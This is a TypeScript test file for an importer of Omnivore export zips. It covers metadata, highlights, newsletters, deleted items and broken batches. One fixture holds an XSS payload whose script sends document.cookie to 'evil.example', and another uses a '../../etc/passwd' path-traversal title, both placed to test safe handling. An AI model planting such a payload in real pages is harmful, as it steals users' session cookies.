import { describe, expect, it } from 'vitest';
import { detectFormat } from '../../../src/import/detect';
import { openImport } from '../../../src/import/import';
import { parseOmnivoreHighlights } from '../../../src/import/omnivore-highlights';
import { collect, expectWellFormed, NOW, omnivoreHighlight, omnivoreMeta, omnivoreZip, zipOf } from './fixtures';

const HOSTILE = '<h1>Zero</h1><script>fetch("https://evil.example/?c="+document.cookie)</script><img src=x onerror="alert(1)"><p>Body</p>';
const NEWSLETTER_URL = 'https://omnivore.app/no_url?q=7f9c2b1e-0000-4000-8000-000000000003';

function exportZip() {
  const metas = Array.from({ length: 45 }, (_, i) => omnivoreMeta(i));
  metas[3] = omnivoreMeta(3, { url: NEWSLETTER_URL, title: 'Weekly letter #12', slug: 'weekly-letter-12' });
  metas[4] = omnivoreMeta(4, { state: 'DELETED' });
  metas[5] = omnivoreMeta(5, { state: 'ARCHIVED' });
  metas[6] = omnivoreMeta(6, { readingProgress: 100 });
  metas[7] = omnivoreMeta(7, { labels: [{ name: 'Newsletter', color: '#f00' }, 'plain'] });
  metas[8] = omnivoreMeta(8, { title: '../../etc/passwd <b>and</b> a / slash', slug: 'safe-slug-8' });
  metas[9] = omnivoreMeta(9, { url: 'https://omnivore.app/no_url?q=lost', slug: 'lost-letter' });
  const highlights = [
    omnivoreHighlight('First paragraph.\n\nSecond paragraph\nwith a line break.', ['insight', 'to do'], 'My note\n\nin two paragraphs'),
    omnivoreHighlight('Plain quote'),
    omnivoreHighlight('Labelled only', ['later']),
  ].join('\n\n');
  return omnivoreZip(metas, {
    'content/article-0-slug.html': HOSTILE,
    'content/article-1-slug.pdf': new Uint8Array([0x25, 0x50, 0x44, 0x46, 0x2d, 0x31]),
    'highlights/article-2-slug.md': `A note on the whole page.\n\n${highlights}`,
    'content/weekly-letter-12.html': '<p>The only copy of this newsletter.</p>',
    'content/safe-slug-8.html': '<p>Found by slug</p>',
  });
}

describe('Omnivore export zip', () => {
  const zip = exportZip();
  const events = collect('omnivore', zip);
  const byIndex = (i: number) => events[i]!;
  const item = (i: number) => {
    const e = byIndex(i);
    if (e.kind !== 'item') throw new Error(`event ${i} is ${e.kind}`);
    return e.item;
  };

  it('is detected, estimates its total from the batch names, and reads every batch in order', () => {
    expect(detectFormat('omnivore-export.zip', zip)).toEqual({ ok: true, value: 'omnivore' });
    const session = openImport('omnivore', zip, { now: NOW });
    expect(session.ok && session.value.total).toBe(45);
    expectWellFormed(events);
    expect(events).toHaveLength(45);
    expect(byIndex(0).sourceKey).toBe('omnivore:id:00000000-0000-4000-8000-000000000000');
    expect(byIndex(44).source).toMatch(/^metadata_40_to_45\.json, item 5/);
  });

  it('maps the metadata: title, description, author, labels, dates', () => {
    expect(item(10)).toEqual({
      url: 'https://blog.example.org/posts/10',
      title: 'Omnivore article 10',
      savedAt: Date.UTC(2024, 0, 1) + 10 * 3_600_000,
      tags: ['reading', 'tech'],
      state: 'unread',
      author: 'Author 10',
      excerpt: 'About article 10',
      publishedAt: Date.UTC(2023, 11, 1),
      highlights: [],
    });
    expect(item(7).tags).toEqual(['Newsletter', 'plain']);
    expect(item(5).state).toBe('archived');
    expect(item(6).state).toBe('read');
  });

  it('keeps content HTML as untrusted, untouched, for the consumer to sanitise', () => {
    expect(item(0).untrustedHtml).toBe(HOSTILE);
    expect(events[0]).toMatchObject({ warnings: [] });
  });

  it('says a PDF was not imported, and reads files by slug, never by title', () => {
    expect(item(1).untrustedHtml).toBeUndefined();
    expect(events[1]).toMatchObject({ warnings: [expect.stringContaining('PDF was not imported')] });
    expect(item(8)).toMatchObject({ title: '../../etc/passwd and a / slash', untrustedHtml: '<p>Found by slug</p>' });
  });

  it('reads highlights with labels and notes, and the page note', () => {
    expect(item(2).note).toBe('A note on the whole page.');
    const savedAt = item(2).savedAt;
    expect(item(2).highlights).toEqual([
      { quote: 'First paragraph.\n\nSecond paragraph\nwith a line break.', createdAt: savedAt, tags: ['insight', 'to do'], note: 'My note\n\nin two paragraphs' },
      { quote: 'Plain quote', createdAt: savedAt },
      { quote: 'Labelled only', createdAt: savedAt, tags: ['later'] },
    ]);
  });

  it('keeps a newsletter with a placeholder URL and its only copy; warns when there is no copy', () => {
    expect(item(3)).toMatchObject({ url: NEWSLETTER_URL, placeholderUrl: true, untrustedHtml: '<p>The only copy of this newsletter.</p>' });
    expect(item(9)).toMatchObject({ placeholderUrl: true });
    expect(events[9]).toMatchObject({ warnings: [expect.stringContaining('no copy')] });
  });

  it('reports a DELETED item with a reason instead of importing it', () => {
    expect(byIndex(4)).toMatchObject({ kind: 'failed', reason: expect.stringContaining('deleted in Omnivore') });
  });

  it('reports a broken batch and reads the others; repeated ids keep keys unique', () => {
    const good = omnivoreZip([omnivoreMeta(1), omnivoreMeta(1, { url: 'https://other.example/' }), 'not an object' as never]);
    expect(openImport('omnivore', zipOf({ 'readme.txt': 'x' }), { now: NOW })).toMatchObject({ ok: false, error: { code: 'unsupported-type' } });
    const events2 = collect('omnivore', good);
    expectWellFormed(events2);
    expect(events2.map((e) => e.kind)).toEqual(['item', 'item', 'failed']);
    const withBroken = collect('omnivore', zipOf({ 'metadata_0_to_1.json': JSON.stringify([omnivoreMeta(0)]), 'metadata_20_to_40.json': '[{"id": ' }));
    expect(withBroken.map((e) => e.kind)).toEqual(['item', 'failed']);
    expect(withBroken[1]).toMatchObject({ source: 'metadata_20_to_40.json', reason: expect.stringContaining('not valid JSON') });
  });

  it('skips reading articles for events before the resume cursor', () => {
    const tail = collect('omnivore', zip, {}, 3);
    expect(tail[0]).toMatchObject({ index: 3, item: { untrustedHtml: '<p>The only copy of this newsletter.</p>' } });
    expect(tail).toEqual(events.slice(3));
  });
});

describe('parseOmnivoreHighlights', () => {
  it('handles CRLF, a note with a Markdown heading, and empty input', () => {
    const md = '> quote one \r\n\r\n# Not labels, a heading\r\n\r\n> quote two';
    expect(parseOmnivoreHighlights(md)).toEqual({
      highlights: [{ quote: 'quote one', note: '# Not labels, a heading' }, { quote: 'quote two' }],
    });
    expect(parseOmnivoreHighlights('')).toEqual({ highlights: [] });
  });

  it('every generated highlight round-trips', () => {
    const quotes = ['a', 'multi\nline', 'para one\n\npara two', 'with #hash inside'];
    const md = quotes.map((q, i) => omnivoreHighlight(q, i % 2 ? ['l1', 'l 2'] : [], i % 3 ? `note ${i}` : '')).join('\n\n');
    expect(parseOmnivoreHighlights(md).highlights.map((h) => h.quote)).toEqual(quotes);
  });
});

it('an Omnivore zip with no items is still an Omnivore export', () => {
  expect(detectFormat('x.zip', omnivoreZip([], { 'metadata_0_to_0.json': '[]' }))).toEqual({ ok: true, value: 'omnivore' });
  expect(collect('omnivore', omnivoreZip([], { 'metadata_0_to_0.json': '[]' }))).toEqual([]);
});
